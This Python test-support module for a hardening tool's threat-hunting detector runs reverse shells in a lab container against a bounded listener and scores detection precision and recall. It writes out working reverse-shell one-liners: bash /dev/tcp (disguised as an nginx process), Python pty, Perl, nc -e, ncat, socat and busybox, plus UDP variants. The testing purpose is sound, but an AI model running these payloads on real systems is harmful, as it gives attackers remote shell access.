"""Real reverse shells and benign long-lived connections inside a lab container (test support).

Everything connects to :class:`Listener` on the lab bridge address 198.18.0.1 (a
controller-side socket server that accepts, holds and closes within its lifetime).
Binaries the lab state purged (nc.traditional, ncat, socat, busybox) are copied out of
the lab image into ``/opt/hunt-test/bin`` of the container.

Example::

    with Listener() as lst:
        pids = start_scenarios(container, lst.port)
"""

from __future__ import annotations

import contextlib
import os
import re
import secrets
import shlex
import socket
import subprocess
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Self

GATEWAY = "198.18.0.1"
BIN = "/opt/hunt-test/bin"
COPIED = ("/usr/bin/nc.traditional", "/usr/bin/ncat", "/usr/bin/socat", "/usr/bin/busybox", "/usr/bin/python3.11")


class _Serving:
    """A listener's thread: started on enter; on exit stopped, joined (bounded) and closed."""

    _stop: threading.Event
    _thread: threading.Thread

    def close_all(self) -> None:
        raise NotImplementedError

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.close_all()


class Listener(_Serving):
    """A bounded TCP server on 198.18.0.1: accepts up to ``max_conns``, holds them, closes all
    after ``lifetime`` seconds or on exit. Sends nothing (shells just sit at their prompt)."""

    def __init__(self, lifetime: float = 90.0, max_conns: int = 64) -> None:
        self.lifetime = lifetime
        self.max_conns = max_conns
        self.conns: list[socket.socket] = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((GATEWAY, 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        end = time.monotonic() + self.lifetime
        while not self._stop.is_set() and time.monotonic() < end:
            self._tick(time.monotonic())
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                break
            if len(self.conns) >= self.max_conns:
                conn.close()
                continue
            self._take(conn)
        self.close_all()

    def _tick(self, now: float) -> None:
        """Called about every 0.2 s while serving (subclasses close connections on time)."""

    def _take(self, conn: socket.socket) -> None:
        """Keep an accepted connection (within ``max_conns``)."""
        self.conns.append(conn)

    def close_all(self) -> None:
        for c in self.conns:
            with contextlib.suppress(OSError):
                c.close()
        with contextlib.suppress(OSError):
            self.sock.close()


class UdpListener(_Serving):
    """A bounded UDP socket on 198.18.0.1: receives (so the shells' datagrams are not answered with
    ICMP port unreachable), remembers at most ``max_peers`` senders, closes after ``lifetime``
    seconds or on exit. Sends nothing."""

    def __init__(self, lifetime: float = 90.0, max_peers: int = 64) -> None:
        self.lifetime = lifetime
        self.max_peers = max_peers
        self.peers: set[tuple[str, int]] = set()
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((GATEWAY, 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        end = time.monotonic() + self.lifetime
        while not self._stop.is_set() and time.monotonic() < end:
            try:
                _, peer = self.sock.recvfrom(65536)
            except TimeoutError:
                continue
            except OSError:
                break
            if len(self.peers) < self.max_peers:
                self.peers.add(peer)
        self.close_all()

    def close_all(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def podman(*args: str, check: bool = True, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["podman", *args], capture_output=True, text=True, check=check, timeout=timeout)


def sh(container: str, script: str, check: bool = True) -> str:
    return podman("exec", container, "sh", "-c", script, check=check).stdout


def copy_binaries(image: str, container: str) -> None:
    """Copy the netcat-likes (and python3 as a fake nginx) out of the image into the container."""
    tmp = Path(tempfile.mkdtemp(prefix="hunt-bin-"))
    name = f"hunt-copy-{secrets.token_hex(4)}"
    podman("create", "--name", name, image, "true")
    try:
        for path in COPIED:
            podman("cp", f"{name}:{path}", str(tmp / Path(path).name))
    finally:
        podman("rm", "-f", name)
    sh(container, f"mkdir -p {BIN}")
    for f in tmp.iterdir():
        podman("cp", str(f), f"{container}:{BIN}/{f.name}")
        f.unlink()
    tmp.rmdir()
    sh(container, f"cp {BIN}/python3.11 {BIN}/nginx && chmod 755 {BIN}/*")


@dataclass(frozen=True)
class Scenario:
    """``name``: what it is; ``malicious``: a reverse shell (True) or benign; ``tag``: a unique
    argument marker that finds its processes; ``command``: the sh command started detached."""

    name: str
    malicious: bool
    command: str
    marker: str = ""  # a command-line substring that finds the scenario's first process


def scenarios(port: int, udp_port: int = 0) -> tuple[Scenario, ...]:
    """The shells and benign cases; with ``udp_port``, also two UDP reverse shells (both speak first:
    bash -i prints its prompt, socat's ``sh -i`` too) to :class:`UdpListener`."""
    a = f"{GATEWAY}"
    py_pty = (
        "import socket,os,pty;s=socket.socket();s.connect(('HOST',PORT));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"
    )
    perl = (
        'use Socket;$i="HOST";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};'
    )
    nginx = (
        "import socket,subprocess,time;l=socket.socket();l.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
        "l.bind(('0.0.0.0',8080));l.listen();"
        "subprocess.Popen(['/bin/bash','-c','bash -i >& /dev/tcp/HOST/PORT 0>&1']);time.sleep(120)"
    )
    poller = (
        "import http.client,time\n"
        "c=http.client.HTTPConnection('HOST',PORT,timeout=120)\n"
        "c.connect()\nc.sock.sendall(b'GET /health HTTP/1.1\\r\\nHost: api\\r\\n\\r\\n')\ntime.sleep(120)\n"
    )
    py_pty, perl, nginx, poller = (
        t.replace("HOST", a).replace("PORT", str(port)) for t in (py_pty, perl, nginx, poller)
    )
    udp = (
        Scenario("bash /dev/udp", True, f"exec bash -c 'exec bash -i >& /dev/udp/{a}/{udp_port} 0>&1'", "/dev/udp/"),
        Scenario("socat udp exec", True, f"exec {BIN}/socat UDP:{a}:{udp_port} EXEC:'/bin/sh -i',stderr", "socat UDP:"),
    )
    return (
        Scenario("bash /dev/tcp under nginx", True, f"exec {BIN}/nginx -c {shlex.quote(nginx)}", "nginx -c import"),
        Scenario("python pty + dup2", True, f"exec python3 -c {shlex.quote(py_pty)}", "pty.spawn"),
        Scenario(
            "nc -e (netcat-traditional)", True, f"exec {BIN}/nc.traditional -e /bin/sh {a} {port}", "nc.traditional -e"
        ),
        Scenario("ncat --sh-exec", True, f"exec {BIN}/ncat {a} {port} --sh-exec 'sh -i'", "--sh-exec"),
        Scenario(
            "socat exec", True, f"exec {BIN}/socat TCP:{a}:{port} EXEC:/bin/bash,pty,stderr,setsid", "EXEC:/bin/bash"
        ),
        Scenario("busybox nc -e", True, f"exec {BIN}/busybox nc {a} {port} -e /bin/sh", "busybox nc "),
        Scenario("perl socket + exec", True, f"exec perl -e {shlex.quote(perl)}", "perl -e use Socket"),
        Scenario(
            "python http client (script) holding a connection",
            False,
            f"mkdir -p /opt/app && printf %s {shlex.quote(poller)} > /opt/app/poller.py && "
            "exec python3 /opt/app/poller.py </dev/null >/dev/null 2>&1",
            "poller.py",
        ),
        Scenario(
            "ssh client waiting on a banner",
            False,
            f"exec ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {port} probe@{a} </dev/null >/dev/null 2>&1",
            "probe@",
        ),
    ) + (udp if udp_port else ())


def start(container: str, s: Scenario, index: int) -> None:
    """Start a scenario detached (``podman exec -d``); ``HUNT_SCENARIO=index`` in its environment
    follows it through exec and fork, so its processes are found even after ``nc -e`` execs a shell."""
    podman("exec", "-d", "-e", f"HUNT_SCENARIO={index}", container, "sh", "-c", s.command)


def scenario_pids(container: str) -> dict[int, set[int]]:
    """scenario index -> pids whose environment carries ``HUNT_SCENARIO=index``."""
    out = sh(container, "grep -a -o -s 'HUNT_SCENARIO=[0-9]*' /proc/[0-9]*/environ; true")
    result: dict[int, set[int]] = {}
    for line in out.splitlines():
        path, _, value = line.partition(":HUNT_SCENARIO=")
        pid = path.split("/")[2] if path.count("/") >= 3 else ""
        if pid.isdigit() and value.isdigit():
            result.setdefault(int(value), set()).add(int(pid))
    return result


def host_scenario_pids(container_id: str) -> dict[int, set[int]]:
    """Like :func:`scenario_pids`, from the host that runs the container (root): scenario index ->
    host pids whose environment carries ``HUNT_SCENARIO=index`` and whose cgroup names the container."""
    result: dict[int, set[int]] = {}
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/cgroup", "rb") as fh:
                if container_id.encode() not in fh.read():
                    continue
            with open(f"/proc/{entry.name}/environ", "rb") as fh:
                env = fh.read()
        except OSError:
            continue
        for var in env.split(b"\0"):
            if var.startswith(b"HUNT_SCENARIO=") and var[14:].isdigit():
                result.setdefault(int(var[14:]), set()).add(int(entry.name))
    return result


def pids_of(container: str) -> dict[int, str]:
    """pid -> cmdline of every process of the container (for cleanup and for matching)."""
    out = sh(container, "for p in /proc/[0-9]*; do printf '%s ' ${p#/proc/}; tr '\\0' ' ' < $p/cmdline; echo; done")
    result = {}
    for line in out.splitlines():
        pid, _, cmd = line.partition(" ")
        if pid.isdigit():
            result[int(pid)] = cmd.strip()
    return result


def kill(container: str, pids: set[int]) -> None:
    if pids:
        sh(container, "kill -9 " + " ".join(map(str, sorted(pids))) + " 2>/dev/null; true", check=False)


def interactive_ssh(port: int, key: Path, known_hosts: Path, user: str = "harden") -> subprocess.Popen[bytes]:
    """A real interactive SSH session (pty, login shell) from the controller, kept open."""
    argv = ["ssh", "-tt", "-i", str(key), "-p", str(port), "-o", f"UserKnownHostsFile={known_hosts}"]
    argv += ["-o", "StrictHostKeyChecking=yes", "-o", "BatchMode=yes", f"{user}@127.0.0.1"]
    proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    assert proc.stdin is not None
    proc.stdin.write(b"sleep 100\n")
    proc.stdin.flush()
    return proc


def wait_connected(listener: Listener, count: int, timeout: float = 10.0) -> int:
    end = time.monotonic() + timeout
    while len(listener.conns) < count and time.monotonic() < end:
        time.sleep(0.1)
    return len(listener.conns)


def ensure_env() -> None:
    os.environ.setdefault("ANSIBLE_NOCOLOR", "1")


INTERACTIVE = Scenario("interactive SSH session (pty, login shell)", False, "", "sshd: harden@pts")


@dataclass(frozen=True)
class Outcome:
    scenario: Scenario
    pids: frozenset[int]
    tier: str  # highest tier among the scenario's processes: high, medium, low, or "" (none)


def interactive_pids(snapshot) -> set[int]:
    """The interactive SSH session: ``sshd: USER@pts/N`` and everything under it."""
    kids = snapshot.children()
    tree = {p.pid for p in snapshot.processes.values() if "@pts/" in p.cmdline and p.cmdline.startswith("sshd:")}
    todo = list(tree)
    while todo:
        for c in kids.get(todo.pop(), ()):
            if c not in tree:
                tree.add(c)
                todo.append(c)
    return tree


def outcomes(detections, groups: list[tuple[Scenario, set[int]]]) -> list[Outcome]:
    """Per scenario: the highest tier among its processes."""
    rank = {"": 0, "low": 1, "medium": 2, "high": 3}
    by_pid = {d.pid: d.severity.value for d in detections}
    return [
        Outcome(case, frozenset(pids), max((by_pid.get(p, "") for p in pids), key=rank.__getitem__, default=""))
        for case, pids in groups
    ]


def precision_recall(results: list[Outcome], detections) -> dict[str, float]:
    """Scenario recall (malicious caught at medium or high) and precision over detections at medium+."""
    bad = [o for o in results if o.scenario.malicious]
    caught = [o for o in bad if o.tier in ("high", "medium")]
    bad_pids = set().union(*(o.pids for o in bad)) if bad else set()
    flagged = [d for d in detections if d.severity.value in ("high", "medium")]
    true_pos = [d for d in flagged if d.pid in bad_pids]
    high = [d for d in detections if d.severity.value == "high"]
    return {
        "recall": len(caught) / len(bad) if bad else 1.0,
        "precision": len(true_pos) / len(flagged) if flagged else 1.0,
        "precision_high": sum(d.pid in bad_pids for d in high) / len(high) if high else 1.0,
    }


def capture_goldens(
    out: Path, lab_inventory: Path, local_inventory: Path, cases, container: str, container_id: str
) -> None:
    """Write real collector output for the goldens (tests/golden/hunt/README.md): the lab host over
    SSH and this machine (local), each as ``nonce`` + newline + the bytes the host sent, with the
    scenario pids of each view (``HARDEN_HUNT_CAPTURE=DIR`` in the lab test)."""
    import json

    from hardening.hunt.linux import new_hunt_collector
    from hardening.hunt.run import HuntOptions
    from hardening.inventory import load_inventory
    from hardening.transport import run_script

    out.mkdir(parents=True, exist_ok=True)
    for tag, inventory in (("lab_ns_inside", lab_inventory), ("host_ns", local_inventory)):
        (target,) = load_inventory(inventory)
        collector = new_hunt_collector()
        run = run_script(target, collector.script, HuntOptions(timeout=30))
        body = run.stdout if tag != "host_ns" else keep_lab_records(run.stdout, collector.nonce, os.getpid())
        (out / f"{tag}.out").write_bytes(collector.nonce.encode() + b"\n" + body)
    for tag, pids in (("lab_ns_inside", scenario_pids(container)), ("host_ns", host_scenario_pids(container_id))):
        names = {cases[i].name: sorted(p) for i, p in sorted(pids.items())}
        (out / f"{tag}.scenarios.json").write_text(json.dumps(names, indent=1) + "\n")


_PID_RECORD = re.compile(rb"^/proc/(\d+)/")


def keep_lab_records(raw: bytes, nonce: str, stop_pid: int) -> bytes:
    """A host capture with only the lab's processes: those in a container, podman's conmon, kernel
    threads, and the collector with its ancestors up to ``stop_pid`` (the test). The records of every
    other process of the machine that ran the lab (its session tooling, whose command lines are not
    ours to publish) are dropped from the per-process sections; nothing else changes."""
    from hardening.facts.sections import parse_sections
    from hardening.hunt.linux import parse_snapshot

    snap = parse_snapshot(parse_sections(raw, nonce))
    chain: set[int] = set()
    self_pid = int(parse_sections(raw, nonce).text("hunt.self"))
    for pid in [self_pid, *(p.pid for p in snap.ancestors(self_pid))]:
        chain.add(pid)
        if pid == stop_pid:
            break
    kids = snap.children()
    todo = [self_pid]
    while todo:
        for k in kids.get(todo.pop(), ()):
            chain.add(k)
            todo.append(k)
    keep = {
        p.pid
        for p in snap.processes.values()
        if p.container is not None or p.comm == "conmon" or p.pid == 2 or p.ppid == 2 or p.pid in chain
    }
    marker = re.compile(rb"^@@" + nonce.encode() + rb" ([BE]) (\S+)[^\n]*\n", re.MULTILINE)
    out, pos, section = [], 0, b""
    for m in marker.finditer(raw):
        body = raw[pos : m.start()]
        if section in (b"hunt.stat", b"hunt.uid", b"hunt.cgroup", b"hunt.nets", b"hunt.ptmx"):
            body = b"\n".join(r for r in body.split(b"\n") if _kept(r, keep))
        elif section in (b"hunt.cmdline", b"hunt.links", b"hunt.ipc"):
            body = b"\0".join(r for r in body.split(b"\0") if _kept(r, keep))
        elif section == b"hunt.exeid":  # "id|sig|size<TAB>PID<TAB>...": the kept processes' lines only
            body = b"\n".join(r for r in body.split(b"\n") if _exeid_kept(r, keep))
        out += [body, m.group(0)]
        pos, section = m.end(), (m.group(2) if m.group(1) == b"B" else b"")
    out.append(raw[pos:])
    return b"".join(out)


def _exeid_kept(line: bytes, keep: set[int]) -> bool:
    kind, _, rest = line.partition(b"\t")
    if kind not in (b"id", b"sig", b"size"):
        return True
    pid = rest.partition(b"\t")[0]
    return pid.isdigit() and int(pid) in keep


def _kept(record: bytes, keep: set[int]) -> bool:
    m = _PID_RECORD.match(record)
    return m is None or int(m.group(1)) in keep
